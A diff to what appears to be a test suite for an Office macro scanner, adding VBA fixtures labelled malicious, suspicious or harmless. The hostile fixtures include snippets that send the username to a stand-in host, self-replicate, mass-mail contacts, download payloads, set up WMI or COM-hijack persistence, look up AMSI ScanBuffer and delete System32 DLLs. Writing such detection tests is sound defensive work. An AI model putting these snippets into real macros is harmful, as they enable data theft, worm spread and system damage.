@@ -127,7 +127,7 @@ suite('hostile macros', () => {
       automatic(
         'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "a"',
       ),
-      'suspicious Persistence',
+      'malicious AutoPersistence',
     ],
     'a task that starts a program': [
       automatic(
@@ -158,8 +158,136 @@ suite('hostile macros', () => {
       'malicious SecurityOff',
     ],
     'an unknown method of an object of an unknown class': [
-      automatic('Set w = CreateObject(UserForm1.A.Caption & "." & UserForm1.A.Tag)\nw.Run UserForm1.Caption, 0'),
+      automatic('Set w = CreateObject(Range("A1").Value & "." & Range("A2").Value)\nw.Run Range("A3").Value, 0'),
       'suspicious AutoExecute',
+    ],
+    'a command in a property of a form': [
+      automatic('Set w = CreateObject(UserForm1.A.Caption & "." & UserForm1.A.Tag)\nw.Run UserForm1.Caption, 0'),
+      'malicious AutoProgram',
+    ],
+    'a command in a comment, backwards': [
+      automatic('Shell StrReverse(ActiveDocument.Comments(1).Range.Text), 0'),
+      'malicious AutoProgram',
+    ],
+    'a Run key by a click': [
+      manual(
+        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "a"',
+      ),
+      'suspicious Persistence',
+    ],
+    'macros that copy themselves with a mark': [
+      automatic(
+        'Set s = ThisDocument.VBProject.VBComponents(1).CodeModule\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString "MRK" & vbCr & s.Lines(1, s.CountOfLines)',
+      ),
+      'malicious Replication',
+    ],
+    'macros that copy themselves through a file': [
+      automatic(
+        'ThisWorkbook.VBProject.VBComponents("M").Export "C:\\m.bas"\nActiveWorkbook.VBProject.VBComponents.Import "c:\\" & "m.bas"',
+      ),
+      'malicious Replication',
+    ],
+    'macros that Word copies': [
+      automatic(
+        'Application.OrganizerCopy Source:=ActiveDocument.FullName, Destination:=NormalTemplate.FullName, Name:="M", Object:=wdOrganizerObjectProjectItems',
+      ),
+      'malicious Replication',
+    ],
+    'macros that Word 95 copies': [
+      automatic('WordBasic.MacroCopy WordBasic.[FileName$]() + ":AutoOpen", "Global:AutoOpen"'),
+      'malicious Replication',
+    ],
+    'a workbook in the start folder': [
+      automatic('c = Application.StartupPath\nActiveWorkbook.SaveAs Filename:=c & "\\PERSONAL.XLS"'),
+      'malicious Replication',
+    ],
+    'a workbook on every disk': [
+      automatic(
+        'Set f = CreateObject("Scripting.FileSystemObject")\nFor Each d In f.Drives\nf.CopyFile ThisWorkbook.FullName, d.Path & "\\a.xls"\nNext',
+      ),
+      'malicious Replication',
+    ],
+    'a mail to all contacts': [
+      automatic(
+        'Set o = CreateObject("Outlook.Application")\nFor Each c In o.Session.AddressLists(1).AddressEntries\nSet m = o.CreateItem(0)\nm.To = c.Address\nm.Attachments.Add ActiveDocument.FullName\nm.Send\nNext',
+      ),
+      'malicious MassMailer',
+    ],
+    'names for a numeric address': [
+      automatic(
+        'With CreateObject("MSXML2.XMLHTTP")\n.Open "GET", "http://192.0.2.1/?u=" & Environ("USERNAME"), True\n.send\nEnd With',
+      ),
+      'malicious Exfiltration',
+    ],
+    'names for a server': [
+      automatic(
+        'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "POST", "https://example.com/a"\nh.send Application.UserName & Environ("COMPUTERNAME")',
+      ),
+      'suspicious Beacon',
+    ],
+    'a file server on the internet': [automatic('x = Dir("\\\\192.0.2.1\\a")'), 'suspicious Beacon'],
+    'a template for other documents': [
+      automatic('For Each d In Documents\nd.AttachedTemplate = "http://192.0.2.1/a"\nNext'),
+      'malicious Downloader',
+    ],
+    'a workbook with macros from the web': [
+      automatic('Workbooks.Open "http://example.com/a.xlsm"'),
+      'malicious Downloader',
+    ],
+    'an installer from the web': [
+      automatic('CreateObject("WindowsInstaller.Installer").InstallProduct "http://example.com/a.msi"'),
+      'malicious AutoProgram',
+    ],
+    'a style sheet from the web': [
+      automatic(
+        'Set x = CreateObject("MSXML2.DOMDocument")\nx.Load "http://192.0.2.1/a.xsl"\nCreateObject("MSXML2.DOMDocument").transformNode x',
+      ),
+      'malicious Downloader',
+    ],
+    'an event of the application': [
+      macroDocument(
+        'Dim WithEvents App As Word.Application\nPrivate Sub App_WindowDeactivate(ByVal a, ByVal b)\nShell "calc.exe"\nEnd Sub',
+      ),
+      'malicious AutoProgram',
+    ],
+    'a shortcut to an interpreter': [
+      automatic(
+        'Set l = CreateObject("WScript.Shell").CreateShortcut("c:\\a.lnk")\nl.TargetPath = "powershell.exe"\nl.Save',
+      ),
+      'malicious AutoProgram',
+    ],
+    'a subscription': [
+      automatic(
+        'Set c = GetObject("winmgmts:\\\\.\\root\\subscription").Get("CommandLineEventConsumer").SpawnInstance_\nc.CommandLineTemplate = "cmd /c x"\nc.Put_',
+      ),
+      'malicious AutoProgram',
+    ],
+    'a class of the system replaced': [
+      automatic(
+        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Classes\\CLSID\\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\\InprocServer32\\", "c:\\a.dll"',
+      ),
+      'malicious AutoPersistence',
+    ],
+    'a library in a temporary folder': [
+      macroDocument(`${declared('LoadLibraryA')}Sub AutoOpen()\nLoadLibraryA Environ("TEMP") & "\\a.dll"\nEnd Sub`),
+      'malicious AutoProgram',
+    ],
+    'a function of the scan interface that is looked up': [
+      macroDocument(
+        `${declared('GetProcAddress')}Sub AutoOpen()\nx = GetProcAddress(1, "Amsi" & "ScanBuffer")\nEnd Sub`,
+      ),
+      'malicious Injection',
+    ],
+    'files of Windows deleted': [automatic('Kill "C:\\Windows\\System32\\*.dll"'), 'malicious Destructive'],
+    'a link that starts a program': [
+      automatic('ActiveDocument.FollowHyperlink "ms-msdt:/id PCWDiagnostic"'),
+      'malicious AutoProgram',
+    ],
+    'macros that start programs, written': [
+      automatic(
+        'ThisDocument.VBProject.VBComponents.Add(1).CodeModule.AddFromString "Sub x()" & vbCr & "She" & "ll ""calc"""',
+      ),
+      'malicious AutoProgram',
     ],
     'macros that write macros': [
       automatic('ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString "Sub A()"'),
@@ -242,6 +370,70 @@ suite('harmless macros', () => {
     ],
     'a text file': [automatic('Open "c:\\log.txt" For Append As #1\nPrint #1, Now\nClose #1'), []],
     'quotes and lines by number': [automatic('MsgBox Chr(34) & "a" & Chr(34) & Chr(13) & Chr(10) & Chr(9)'), []],
+    'a copy in another folder': [
+      automatic(
+        'FileCopy ThisWorkbook.FullName, "D:\\Backup\\" & ThisWorkbook.Name\nThisWorkbook.SaveCopyAs "D:\\a.xlsm"',
+      ),
+      [],
+    ],
+    'a mail to one address': [
+      automatic(
+        'Set m = CreateObject("Outlook.Application").CreateItem(0)\nm.To = "payroll@example.com"\nm.Attachments.Add ThisWorkbook.FullName\nm.Send',
+      ),
+      [],
+    ],
+    'a mail to all contacts by a click': [
+      manual(
+        'Set o = CreateObject("Outlook.Application")\nFor Each c In o.Session.AddressLists(1).AddressEntries\nSet m = o.CreateItem(0)\nm.To = c.Address\nm.Attachments.Add ActiveDocument.FullName\nm.Send\nNext',
+      ),
+      [],
+    ],
+    'a check of a licence': [
+      automatic(
+        'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "GET", "https://example.com/?user=" & Environ("USERNAME")\nh.send',
+      ),
+      ['notice Network'],
+    ],
+    'names for a server of the company': [
+      automatic(
+        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "POST", "http://intranet/usage"\nh.send Environ("USERNAME") & Environ("COMPUTERNAME")',
+      ),
+      ['notice Network'],
+    ],
+    'styles that Word copies': [
+      automatic(
+        'Application.OrganizerCopy Source:=NormalTemplate.FullName, Destination:=ActiveDocument.FullName, Name:="Heading 1", Object:=wdOrganizerObjectStyles',
+      ),
+      [],
+    ],
+    'modules exported on saving': [
+      automatic('For Each c In ThisWorkbook.VBProject.VBComponents\nc.Export ThisWorkbook.Path & "\\" & c.Name\nNext'),
+      [],
+    ],
+    'a shortcut to the workbook': [
+      automatic(
+        'Set w = CreateObject("WScript.Shell")\nSet l = w.CreateShortcut(w.SpecialFolders("Desktop") & "\\a.lnk")\nl.TargetPath = ThisWorkbook.FullName\nl.Save',
+      ),
+      [],
+    ],
+    'a document in a temporary folder': [
+      automatic('CreateObject("Shell.Application").ShellExecute Environ("TEMP") & "\\offer.pdf"'),
+      [],
+    ],
+    'a style sheet beside the workbook': [
+      automatic(
+        'Set x = CreateObject("MSXML2.DOMDocument")\nx.Load ThisWorkbook.Path & "\\a.xsl"\ny = CreateObject("MSXML2.DOMDocument").transformNode(x)',
+      ),
+      [],
+    ],
+    'a button of an add-in that shows a page': [
+      automatic(
+        'Application.CommandBars(1).Controls.Add(1).OnAction = "ShowHelp"',
+        'Sub ShowHelp()\nThisWorkbook.FollowHyperlink "https://www.example.com/manual.html"\nEnd Sub',
+      ),
+      ['notice Network'],
+    ],
+    'temporary files deleted': [automatic('Kill Environ("TEMP") & "\\report_*.pdf"'), []],
     'a button beside an automatic macro': [
       automatic('x = 1', 'Sub Button1_Click()\nShell "cmd /c dir"\nEnd Sub'),
       ['notice Execute'],
